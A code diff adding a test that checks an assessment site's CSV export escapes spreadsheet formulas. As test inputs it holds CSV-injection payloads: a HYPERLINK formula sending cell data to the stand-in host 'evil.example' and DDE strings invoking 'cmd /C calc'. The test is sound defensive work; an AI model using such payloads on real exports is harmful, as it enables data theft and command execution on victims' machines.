@@ -124,6 +124,25 @@ def test_downloads(site) -> None:
     assert client.get("/mission/download/nothing.csv").status_code == 404
 
 
+def test_formulas_in_an_assessment_are_neutralised_in_its_download(site) -> None:
+    import csv
+    import io
+
+    client, tokens = site
+    evil = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
+    added = client.post("/api/v1/assessments", headers=tokens["admin@england.nhs.uk"], json={
+        "innovation": "thrombolysis", "body": evil, "decision": "not-recommended", "decided_on": "2001-01-01",
+        "conditions": "@SUM(1+1)*cmd|' /C calc'!A0", "reference": "+1+cmd|' /C calc'!A0", "icer": 25000})
+    assert added.status_code == 201, added.text
+    rows = list(csv.DictReader(io.StringIO(client.get("/mission/download/assessments.csv").text)))
+    row = next(r for r in rows if evil in r["body"])
+    assert row["body"] == "'" + evil
+    assert row["conditions"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["reference"] == "'+1+cmd|' /C calc'!A0"
+    assert float(row["icer"]) == 25000  # numbers stay numbers
+    assert all(not (value or "x")[0] in "=+-@\t\r" for r in rows for value in r.values())
+
+
 def _map_spec(html: str) -> dict:
     import json
     import re
